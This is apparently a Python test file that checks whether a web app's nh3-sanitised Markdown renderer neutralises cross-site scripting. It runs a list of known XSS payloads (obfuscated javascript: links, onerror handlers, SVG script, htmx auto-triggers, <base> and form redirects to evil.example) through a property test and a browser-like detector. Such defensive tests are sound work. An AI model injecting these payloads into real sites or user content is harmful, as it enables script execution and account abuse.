"""Markdown is rendered, then sanitised by nh3: known attack vectors are neutralised, and no
document built from them, however mixed with Markdown syntax, lets anything run (SECURITY.md
§4; catalogue 19 and 20; ASVS 1.3.1, 1.3.5, 1.2.2, 1.1.1).

The checker reads the output as a browser would: attribute values are entity-decoded once (by
HTMLParser, never a second time) and URLs are stripped the WHATWG way (tab, LF and CR removed
anywhere, C0 controls and spaces trimmed at both ends) before their scheme is read. Its
allowlists are written out here on purpose, independently of app/markdown.py: widening the
app's list must be a decision taken in both places."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from app.markdown import render_markdown

# The bar of SECURITY.md §4 (the app allows a subset of it: no h1, s, sup, sub).
ALLOWED_TAGS = {"p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "strong", "em", "del", "s",
                "code", "pre", "blockquote", "ul", "ol", "li", "table", "thead", "tbody", "tr",
                "th", "td", "a", "sup", "sub"}  # fmt: skip
ALLOWED_ATTRIBUTES = {"a": {"href", "title", "rel"}, "th": {"align"}, "td": {"align"},
                      "ol": {"start"}}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "background", "poster"}
ALLOWED_SCHEMES = {"http", "https", "mailto"}
C0_AND_SPACE = "".join(map(chr, range(0x21)))

# Vectors from the python-markdown and markdown2 reports and the htmx docs (SECURITY.md §4).
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#58script:alert(1))",
    "[x](java&#x3A;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#0000106&#0000097vascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](\tjavascript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](ftp://evil.example/x) [y](tel:+33100000000) <sms:+33100000000>",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    '[x][r]\n\n[r]: javascript:alert(1) "titre"',
    "<javascript:alert(1)>",
    "![](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<details open ontoggle=alert(1)>",
    "\\<!--<img src onerror=alert(1)>-->",
    "<!--><script>alert(1)</script>-->",
    "<http:|><x| onfocus=alert(1) autofocus>",
    "<scr<script>ipt>alert(1)</script>",
    "paragraphe\n{: onclick=alert(1) }",
    "# Titre {: #x onmouseover=alert(1) }",
    '<div hx-get="/compte" hx-trigger="load">x</div>',
    '<p data-hx-post="/deconnexion" data-hx-trigger="load">x</p>',
    "<a href=\"/x\" hx-post='/deconnexion' hx-trigger=load>x</a>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action='https://evil.example'><button formaction=javascript:alert(1)>x</button></form>",
    "<style>body{display:none}</style>",
    '<p style="background:url(javascript:alert(1))" class="x">x</p>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "<a href='https://ok.example' onclick=alert(1) target=_blank rel=attachment>x</a>",
]
MARKUP = [*"\n*_`[]()<>&\"'#|-:!{}=/\\", "\n\n", "    ", "\t", "](", "[x]: ", "&#"]

documents = st.lists(
    st.one_of(st.sampled_from(PAYLOADS), st.text(max_size=20), st.sampled_from(MARKUP)),
    max_size=25,
).map("".join)


def scheme_of(url: str) -> str | None:
    """The scheme a browser would read in an attribute value already decoded once."""
    stripped = re.sub(r"[\t\n\r]", "", url).strip(C0_AND_SPACE).lower()
    match = re.match(r"^([a-z][a-z0-9+.\-]*):", stripped)
    return match.group(1) if match else None


class Check(HTMLParser):
    """Everything in the output a browser could run, fetch or act on."""

    def __init__(self):
        super().__init__(convert_charrefs=True)  # entities decoded once, like a browser
        self.bad: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in ALLOWED_TAGS:
            self.bad.append(f"<{tag}>")
        for name, value in attrs:
            name = name.lower()
            if name.startswith(("on", "hx-", "data-")) or name in {"style", "srcdoc", "class"}:
                self.bad.append(f"{tag}[{name}]")
            elif name not in ALLOWED_ATTRIBUTES.get(tag, set()):
                self.bad.append(f"{tag}[{name}] not allowed")
            if name in URL_ATTRIBUTES and value:
                scheme = scheme_of(value)
                if scheme is not None and scheme not in ALLOWED_SCHEMES:
                    self.bad.append(f"{tag}[{name}={value!r}]")
            if name == "rel" and value != "noopener noreferrer nofollow":
                self.bad.append(f"{tag}[rel={value!r}]")  # rel=attachment embeds files in PDFs

    handle_startendtag = handle_starttag


def dangers(html: str) -> list[str]:
    check = Check()
    check.feed(html)
    check.close()
    return check.bad + (["<script"] if "<script" in html.lower() else [])


# --- catalogue 19 ---------------------------------------------------------------------------


@settings(max_examples=2000, derandomize=True, database=None, deadline=None,
          suppress_health_check=[HealthCheck.too_slow])  # fmt: skip
@given(documents)
def test_markdown_sanitizer_property(document):
    """2,000 documents mixing the vectors with Markdown syntax and random text, the same 2,000
    on every run (derandomised): none renders to anything a browser would run or fetch."""
    html = str(render_markdown(document))
    assert dangers(html) == [], (document, html)


# --- catalogue 20 ---------------------------------------------------------------------------


@pytest.mark.parametrize("source", PAYLOADS)
def test_markdown_known_vectors(source):
    """Each vector of the corpus, alone, comes out inert: entity-obfuscated `javascript:`,
    reference links, attr_list, hx-get, comments and broken tags, SVG, <base>…"""
    html = str(render_markdown(source))
    assert dangers(html) == [], (source, html)


@pytest.mark.parametrize(
    "source", ["paragraphe\n{: onclick=alert(1) }", "# Titre {: #x onmouseover=alert(1) }"]
)
def test_markdown_known_vectors_attr_list_stays_literal_text(source):
    """attr_list is not enabled: `{: …}` is shown as the text it is, never turned into
    attributes (with `extra` it would become onclick=…)."""
    html = str(render_markdown(source))
    assert "{:" in html and dangers(html) == [], html


def test_markdown_known_vectors_ordinary_markdown_is_preserved():
    """The sanitiser is no blunt instrument: bold, italics, links, tables, lists and code survive."""
    html = str(
        render_markdown(
            "# Titre\n\n**gras** et *italique*, [lien](https://grandlyon.com) et "
            "[écrire](mailto:claire@acheteur.example)\n\n"
            "| a | b |\n|:--|--:|\n| 1 | 2 |\n\n1. un\n2. deux\n\n- puce\n\n"
            "> citation\n\n`code` et\n\n    bloc de code\n\n---"
        )
    )
    assert "<h2>Titre</h2>" in html  # the page keeps the only h1
    assert "<strong>gras</strong>" in html and "<em>italique</em>" in html
    assert 'href="https://grandlyon.com"' in html and 'rel="noopener noreferrer nofollow"' in html
    assert 'href="mailto:claire@acheteur.example"' in html
    assert "<table>" in html and 'align="right"' in html and 'align="left"' in html
    assert "<ol>" in html and "<ul>" in html and "<blockquote>" in html
    assert "<code>code</code>" in html and "<pre><code>bloc de code" in html and "<hr" in html
    assert dangers(html) == []


def test_markdown_known_vectors_keep_their_text():
    """A neutralised vector is shown as text, not silently dropped (except script and style
    contents, which nh3 removes with their tags)."""
    html = str(
        render_markdown('<div hx-get="/compte">Bonjour</div> et <img src=x onerror=alert(1)>')
    )
    assert "Bonjour" in html
    assert "<script" not in html


def test_empty_text_renders_nothing():
    assert str(render_markdown(None)) == ""


def test_the_checker_itself_catches_what_it_must():
    """The property test is only as good as its checker: it flags the dangerous forms (once
    decoded) and not the harmless look-alikes browsers read as relative URLs."""
    assert dangers('<a href="javascript:alert(1)">x</a>')
    assert dangers('<a href="&#106;avascript:alert(1)">x</a>')
    assert dangers('<a href=" \tjava\nscript:alert(1)">x</a>')
    assert dangers('<p onclick="x">x</p>') and dangers('<p hx-get="/x">x</p>')
    assert dangers('<p data-hx-post="/x">x</p>') and dangers('<p style="x">x</p>')
    assert dangers("<img src=x>") and dangers("<svg></svg>") and dangers("<base href=/>")
    assert dangers('<a href="x" rel="attachment">x</a>')
    # A browser reads these as relative paths: flagging them would be a false alarm.
    assert not dangers(
        '<a href="javascript&amp;#58alert(1)" rel="noopener noreferrer nofollow">x</a>'
    )
    assert not dangers('<a href="java    script:alert(1)" rel="noopener noreferrer nofollow">x</a>')
    assert not dangers("<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>")
